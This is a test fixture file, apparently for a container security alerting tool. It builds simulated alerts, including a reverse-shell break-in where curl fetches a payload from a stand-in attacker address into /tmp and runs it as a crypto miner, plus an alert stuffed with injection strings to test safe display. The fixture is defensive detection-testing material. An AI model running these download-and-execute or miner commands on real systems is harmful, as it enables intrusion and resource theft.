import type { Alert, AlertBehaviour, AlertProcess, Severity } from '../../baseline/alert.ts';
import { aBehaviour, anAlert } from '../../collector/testing/alerts.ts';
import { hostile } from './hostile.ts';

/** Alerts as agents send them: a break-in as it looked on a node, and what a fleet shows beside it. */
const timeText = (ms: number): string => new Date(ms).toISOString().replace('Z', '000000Z');

export const WEB_IMAGE = {
  repository: 'registry.bank.example/shop/web',
  tag: '1.4.2',
  digest: `sha256:${'a'.repeat(64)}`,
};
export const WEB_KEY = `${WEB_IMAGE.repository}@${WEB_IMAGE.digest}`;

const process = (over: Partial<AlertProcess>): AlertProcess => ({
  pid: 4_711,
  name: 'bash',
  exe: '/usr/bin/bash',
  commandLine: 'bash -i',
  uid: 33,
  ancestry: ['gunicorn', 'dumb-init'],
  ...over,
});

function behaviours(atMs: number): readonly AlertBehaviour[] {
  const shell = process({});
  const curl = process({
    pid: 4_718,
    name: 'curl',
    exe: '/usr/bin/curl',
    commandLine: 'curl -fsSL http://203.0.113.66:8080/x -o /tmp/.x',
    ancestry: ['bash', 'gunicorn', 'dumb-init'],
  });
  const dropped = process({
    pid: 4_725,
    name: '.x',
    exe: '/tmp/.x',
    commandLine: '/tmp/.x --pool stratum+tcp://203.0.113.66:3333',
    ancestry: ['bash', 'gunicorn', 'dumb-init'],
  });
  return [
    aBehaviour({
      channel: 'exec',
      value: 'exec /usr/bin/bash ← gunicorn as user',
      time: timeText(atMs),
      score: 86,
      techniques: ['T1059.004'],
      reason: {
        en: 'gunicorn started /usr/bin/bash: never seen in 41,200 starts of 4 pods',
        zh: 'gunicorn 启动了 /usr/bin/bash：4 个 Pod 的 41,200 次启动中从未出现',
      },
      process: shell,
      fields: {
        'proc.cmdline': 'bash -i',
        'proc.pname': 'gunicorn',
        'fd.name': '10.244.1.17:51532->203.0.113.66:4444',
        'evt.type': 'execve',
        'container.id': '0123456789ab',
      },
    }),
    aBehaviour({
      channel: 'net',
      value: 'connect 203.0.113.66:8080/tcp by curl',
      time: timeText(atMs + 2_100),
      score: 71,
      count: 3,
      techniques: ['T1105'],
      reason: {
        en: 'curl connected to 203.0.113.66:8080: never seen',
        zh: 'curl 连接 203.0.113.66:8080：从未出现',
      },
      process: curl,
      fields: { 'fd.sip': '203.0.113.66', 'proc.cmdline': curl.commandLine },
    }),
    aBehaviour({
      channel: 'file-write',
      value: 'write /tmp/.x by curl',
      time: timeText(atMs + 2_900),
      score: 44,
      techniques: [],
      reason: { en: 'curl wrote /tmp/.x: it never wrote there', zh: 'curl 写入 /tmp/.x：从未写入' },
      process: curl,
      fields: { 'fd.name': '/tmp/.x' },
    }),
    aBehaviour({
      channel: 'exec',
      value: 'exec /tmp/.x ← bash as user',
      time: timeText(atMs + 4_300),
      score: 93,
      techniques: ['T1496'],
      reason: {
        en: 'bash started /tmp/.x, a file that was written after the pod started',
        zh: 'bash 启动了 /tmp/.x，该文件在 Pod 启动后才被写入',
      },
      process: dropped,
      fields: { 'proc.cmdline': dropped.commandLine, 'proc.is_exe_upper_layer': 'true' },
    }),
  ];
}

/** A reverse shell in a pod of a shop: revision 1 is its beginning, 2 the whole of it. */
export function breakIn(
  over: Partial<Alert> & { readonly atMs?: number; readonly suffix?: string } = {},
): Alert {
  const { atMs = Date.now() - 90_000, suffix = '', ...rest } = over;
  const revision = over.revision ?? 2;
  const shown = revision === 1 ? behaviours(atMs).slice(0, 1) : behaviours(atMs);
  return anAlert({
    id: `break-in${suffix}`,
    revision,
    severity: 'critical',
    pod: `web-7d9f8b6c5-x2kqp${suffix}`,
    podUid: `uid-web${suffix}`,
    image: WEB_IMAGE,
    process: process({}),
    behaviours: shown,
    profile: { state: 'complete', coverage: 0.994, observations: 41_200, pods: 4 },
    score: 97,
    scoreParts: [
      { name: 'exec', value: 93 },
      { name: 'net', value: 71 },
      { name: 'file-write', value: 44 },
    ],
    techniques: ['T1059.004', 'T1105', 'T1496'],
    firstTime: timeText(atMs),
    lastTime: timeText(atMs + 4_300),
    count: shown.length * 3,
    reason: {
      en: 'gunicorn started /usr/bin/bash and bash started /tmp/.x: never seen in this image',
      zh: 'gunicorn 启动了 /usr/bin/bash，bash 又启动了 /tmp/.x：该镜像中从未出现',
    },
    ...rest,
  });
}

const SEVERITIES: readonly Severity[] = ['informational', 'low', 'medium', 'high', 'medium', 'low'];
const WORKLOADS = [
  { namespace: 'shop', workload: 'cart', repository: 'registry.bank.example/shop/cart' },
  { namespace: 'payments', workload: 'ledger', repository: 'registry.bank.example/pay/ledger' },
  { namespace: 'payments', workload: 'gateway', repository: 'registry.bank.example/pay/gateway' },
  { namespace: 'platform', workload: 'ingress', repository: 'registry.k8s.io/ingress-nginx' },
] as const;

/** Everyday alerts, spread over workloads, severities and time. */
export function everyday(count: number, endMs = Date.now()): readonly Alert[] {
  return Array.from({ length: count }, (_, index) => {
    const { namespace, workload, repository } = WORKLOADS[index % WORKLOADS.length] ?? WORKLOADS[0];
    const severity = SEVERITIES[index % SEVERITIES.length] ?? 'low';
    const atMs = endMs - (count - index) * 40_000;
    const path = `/var/lib/${workload}/spool/${index % 7}`;
    return anAlert({
      id: `everyday-${index}`,
      severity,
      kind: index % 11 === 3 ? 'session' : index % 13 === 5 ? 'upgrade' : 'anomaly',
      namespace,
      workload,
      pod: `${workload}-5c9d7f6b8-${(index * 7_919 % 60_466_176).toString(36).padStart(5, 'q')}`,
      podUid: `uid-${index}`,
      image: { repository, tag: `2.${index % 4}.0`, digest: `sha256:${String(index % 4).repeat(64)}` },
      behaviours: [aBehaviour({
        channel: 'file-write',
        value: `write ${path}/* by ${workload}`,
        time: timeText(atMs),
        score: 30 + index % 50,
        techniques: severity === 'high' ? ['T1486'] : [],
        process: process({ name: workload, exe: `/app/${workload}`, commandLine: `/app/${workload} --serve` }),
      })],
      process: process({ name: workload, exe: `/app/${workload}`, commandLine: `/app/${workload} --serve` }),
      score: 30 + index % 50,
      techniques: severity === 'high' ? ['T1486'] : [],
      firstTime: timeText(atMs),
      lastTime: timeText(atMs + 1_000),
      count: 1 + index % 9,
      reason: {
        en: `${workload} wrote to ${path}: it never wrote there`,
        zh: `${workload} 写入 ${path}：从未写入该目录`,
      },
    });
  });
}

/** One alert with everything that an attacker can write, everywhere it can be written. */
export function hostileAlert(atMs = Date.now()): Alert {
  const values = Object.values(hostile);
  return anAlert({
    id: 'hostile-1',
    severity: 'high',
    namespace: 'shop',
    pod: hostile.markup,
    podUid: 'uid-hostile',
    workload: hostile.bidi,
    containerName: hostile.hidden,
    image: { repository: hostile.wide, tag: hostile.formula, digest: '' },
    process: process({
      name: hostile.markup,
      exe: hostile.bidi,
      commandLine: hostile.long,
      ancestry: [hostile.markup, hostile.bidi, hostile.lines],
    }),
    behaviours: values.map((value, index) => aBehaviour({
      channel: 'exec',
      value: `exec ${value} ← sh`,
      time: timeText(atMs + index),
      reason: { en: value, zh: value },
      process: process({ pid: 9_000 + index, name: value, exe: value, commandLine: value }),
      fields: { 'proc.cmdline': value, [value.slice(0, 60)]: value },
    })),
    firstTime: timeText(atMs),
    lastTime: timeText(atMs + values.length),
    reason: { en: hostile.formula + hostile.markup, zh: hostile.formula + hostile.markup },
  });
}
